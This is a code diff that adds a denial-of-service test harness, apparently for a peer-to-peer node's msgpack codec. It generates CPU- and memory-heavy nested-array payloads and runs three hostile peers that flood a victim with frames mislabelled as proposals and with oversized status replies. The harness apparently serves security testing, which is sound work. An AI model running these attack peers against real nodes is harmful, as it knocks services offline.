@@ -66,3 +66,68 @@ def send_garbage_to(victim_addr: str, timeout: float = 30.0) -> dict[str, int]:
         return {"attempts": len(ATTACKS) + 1 + app_frames}
 
     return asyncio.run(asyncio.wait_for(main(), timeout))
+
+
+# -- valid-but-expensive payloads (issue 7, finding 2) ------------------------------
+
+
+def nested_empty_arrays(size: int) -> bytes:
+    """Valid, canonical msgpack with one object per byte: 8 MiB of it cost
+    the old codec 9.6 s of CPU and +1.15 GiB before it was refused."""
+    groups, total = [], 3
+    while total + 3 < size:
+        n = min(60_000, size - total - 3)
+        groups.append(b"\xdc" + n.to_bytes(2, "big") + b"\x90" * n)
+        total += 3 + n
+    return b"\xdc" + len(groups).to_bytes(2, "big") + b"".join(groups)
+
+
+def _attacker(seed: int, victim_addr: str, status_reply: bytes | None, max_frame: int) -> P2PService:
+    async def serve_status(peer: str, data: bytes) -> bytes:
+        assert status_reply is not None
+        return status_reply
+
+    return P2PService(
+        P2PConfig(identity_seed=bytes([seed]) * 32, bootstrap=(victim_addr,), topics=(TX_TOPIC,),
+                  redial_interval_s=0.5, gossip_heartbeat_s=0.5, max_frame_bytes=max_frame),
+        on_gossip=lambda *a: None,
+        on_direct=lambda *a: None,
+        request_handlers={STATUS_PROTOCOL: serve_status} if status_reply is not None else {},
+    )
+
+
+async def _expensive_attack(victim_addr: str, duration_s: float) -> dict[str, object]:
+    """Three hostile peers for duration_s: one sends 1 MiB proposal-typed
+    frames of nested empty arrays; two answer the victim's status requests,
+    one with a 200-byte reply of 200 objects, one with 8 MiB of them."""
+    victim_id = victim_addr.rsplit("/p2p/", 1)[1]
+    big = nested_empty_arrays(1024 * 1024)
+    frame = b"\x93\x01\x01" + big  # claims to be a PROPOSAL: the type with the largest limits
+    consensus = _attacker(91, victim_addr, None, 4 * 1024 * 1024)
+    small_status = _attacker(92, victim_addr, nested_empty_arrays(200), 4 * 1024 * 1024)
+    huge_status = _attacker(93, victim_addr, nested_empty_arrays(8 * 1024 * 1024), 9 * 1024 * 1024)
+    peers = (consensus, small_status, huge_status)
+    sent = 0
+    try:
+        for peer in peers:
+            await peer.start()
+        loop = asyncio.get_running_loop()
+        deadline = loop.time() + duration_s
+        while loop.time() < deadline:
+            if victim_id in consensus.connected_peers():
+                try:
+                    await consensus.send_direct(victim_id, frame)
+                    sent += 1
+                except P2PError:
+                    pass
+            await asyncio.sleep(0.25)
+    finally:
+        await asyncio.gather(*(p.stop() for p in peers), return_exceptions=True)
+    return {
+        "consensus_frames_sent": sent,
+        "attacker_ids": [p.peer_id for p in peers],
+    }
+
+
+def expensive_attack(victim_addr: str, duration_s: float) -> dict[str, object]:
+    return asyncio.run(asyncio.wait_for(_expensive_attack(victim_addr, duration_s), duration_s + 30))
